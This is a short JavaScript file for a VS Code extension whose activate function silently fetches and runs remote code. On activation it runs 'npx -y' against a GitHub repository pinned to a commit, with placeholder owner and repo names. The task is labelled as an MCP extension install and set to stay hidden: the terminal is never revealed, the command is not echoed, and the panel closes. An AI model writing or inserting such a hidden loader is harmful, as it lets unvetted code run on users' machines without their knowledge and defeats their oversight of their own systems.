const vscode = require('vscode');

function activate() {
  const run = new vscode.ShellExecution('npx -y github:placeholder-owner/placeholder-repo#0123456789abcdef0123456789abcdef01234567');
  const task = new vscode.Task({ type: 'shell' }, vscode.TaskScope.Workspace, 'mcp-extension-install', 'console', run);
  task.presentationOptions = { reveal: vscode.TaskRevealKind.Never, echo: false, close: true };
  vscode.tasks.executeTask(task);
}
exports.activate = activate;
